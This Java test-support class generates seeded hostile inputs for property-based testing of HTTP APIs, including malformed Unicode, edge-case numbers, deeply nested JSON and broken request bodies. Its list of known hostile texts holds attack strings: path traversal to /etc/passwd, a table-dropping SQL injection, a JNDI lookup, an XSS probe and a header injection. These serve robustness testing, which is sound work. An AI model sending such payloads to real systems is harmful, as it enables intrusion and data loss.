package dev.courier.testsupport.hostile;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Function;
import java.util.stream.LongStream;
import java.util.stream.Stream;

/**
 * Generated hostile input for property-based tests of HTTP APIs: texts (NULs, unpaired surrogates, control and
 * bidirectional characters, huge strings, encodings, injections), JSON values of every type and edge (overflowing
 * numbers, deep nesting) and request bodies that are not JSON at all. Generation is driven by a seeded
 * {@link Random}: a failing sample is reproduced from the seed its test names.
 *
 * <p>Each generated value is raw JSON text, so that what no JSON library would write (a lone {@code \ud800}
 * escape, {@code 1e400}, duplicate keys) is sent too.
 */
public final class HostileValues {

    /** Texts that have broken real systems, beside random ones. */
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "a\u0000b",
            "\ud800",
            "\udfff",
            "\ud83d\ude00",
            "\u202egnp.exe",
            "\r\nX-Injected: 1",
            "\t",
            "\u007f",
            "\u00ff\u00fe",
            "%00",
            "%2e%2e%2f",
            "../../etc/passwd",
            "'; DROP TABLE notifier_endpoint; --",
            "${jndi:ldap://x/a}",
            "<script>alert(1)</script>",
            "null",
            "true",
            "-1",
            "9223372036854775808",
            "\uFEFF",
            "\u00e9\u4e2d\u0430",
            "whsec_",
            "whsec_!!!!",
            "Authorization");

    private static final List<String> NUMBERS = List.of(
            "0",
            "-0",
            "-1",
            "1",
            "2147483647",
            "2147483648",
            "-2147483649",
            "9223372036854775807",
            "9223372036854775808",
            "1e400",
            "-1e400",
            "1.5",
            "0.000000001",
            "1E2",
            "100",
            "1000");

    private HostileValues() {}

    /** {@code count} seeds from {@code courier.test.seed} (or the clock), for a parameterized test. */
    public static Stream<Long> seeds(int count) {
        long base = Long.getLong("courier.test.seed", System.nanoTime());
        return LongStream.range(0, count).mapToObj(i -> base + i);
    }

    /** A text: often one of the known hostile ones, else random code units of every range, up to 300 long. */
    public static String text(Random random) {
        return switch (random.nextInt(6)) {
            case 0, 1 -> TEXTS.get(random.nextInt(TEXTS.size()));
            case 2 -> TEXTS.get(random.nextInt(TEXTS.size())) + randomText(random, 20);
            case 3 -> "x".repeat(random.nextInt(4) == 0 ? 100_000 : 1 + random.nextInt(3000));
            default -> randomText(random, 300);
        };
    }

    /** Random UTF-16 code units, control characters and surrogate halves included. */
    public static String randomText(Random random, int maxLength) {
        int length = random.nextInt(maxLength + 1);
        StringBuilder b = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            b.append(
                    switch (random.nextInt(5)) {
                        case 0 -> (char) random.nextInt(0x20);
                        case 1 -> (char) (0xd800 + random.nextInt(0x800));
                        case 2 -> (char) random.nextInt(0x10000);
                        default -> (char) (0x20 + random.nextInt(0x5f));
                    });
        }
        return b.toString();
    }

    /** A JSON string literal of {@code text}, escaping as JSON allows (lone surrogates as {@code \\uXXXX}). */
    public static String string(String text) {
        StringBuilder b = new StringBuilder(text.length() + 2).append('"');
        for (char c : text.toCharArray()) {
            if (c == '"' || c == '\\') {
                b.append('\\').append(c);
            } else if (c < 0x20 || Character.isSurrogate(c)) {
                b.append(String.format("\\u%04x", (int) c));
            } else {
                b.append(c);
            }
        }
        return b.append('"').toString();
    }

    /** Any JSON value: strings, numbers at their edges, booleans, null, arrays and objects, nested to {@code depth}. */
    public static String json(Random random, int depth) {
        int kinds = depth > 0 ? 6 : 4;
        return switch (random.nextInt(kinds)) {
            case 0 -> string(text(random));
            case 1 -> NUMBERS.get(random.nextInt(NUMBERS.size()));
            case 2 -> random.nextBoolean() ? "true" : "false";
            case 3 -> "null";
            case 4 -> {
                List<String> items = new ArrayList<>();
                for (int i = random.nextInt(4); i > 0; i--) {
                    items.add(json(random, depth - 1));
                }
                yield "[" + String.join(",", items) + "]";
            }
            default -> {
                Map<String, String> fields = new LinkedHashMap<>();
                for (int i = random.nextInt(4); i > 0; i--) {
                    fields.put(text(random), json(random, depth - 1));
                }
                yield object(fields);
            }
        };
    }

    /**
     * A JSON object built from {@code fields}: each field is left out, set to any hostile JSON value or set to a
     * plausible value from its generator (raw JSON), so that samples mix valid and invalid parts.
     */
    public static String object(Random random, Map<String, Function<Random, String>> fields) {
        Map<String, String> out = new LinkedHashMap<>();
        fields.forEach((name, plausible) -> {
            switch (random.nextInt(4)) {
                case 0 -> {}
                case 1 -> out.put(name, json(random, 2));
                default -> out.put(name, plausible.apply(random));
            }
        });
        if (random.nextInt(8) == 0) {
            out.put(text(random), json(random, 1));
        }
        return object(out);
    }

    /** A request body that is sometimes no JSON object at all: empty, truncated, invalid UTF-8, deeply nested. */
    public static byte[] body(Random random, String jsonObject) {
        return switch (random.nextInt(12)) {
            case 0 -> new byte[0];
            case 1 -> jsonObject.substring(0, jsonObject.length() / 2).getBytes(StandardCharsets.UTF_8);
            case 2 -> new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xc3, (byte) 0x28, '"', '}'};
            case 3 -> ("[".repeat(5000) + "]".repeat(5000)).getBytes(StandardCharsets.UTF_8);
            case 4 -> json(random, 2).getBytes(StandardCharsets.UTF_8);
            default -> jsonObject.getBytes(StandardCharsets.UTF_8);
        };
    }

    private static String object(Map<String, String> fields) {
        List<String> parts = new ArrayList<>();
        fields.forEach((name, value) -> parts.add(string(name) + ":" + value));
        return "{" + String.join(",", parts) + "}";
    }
}
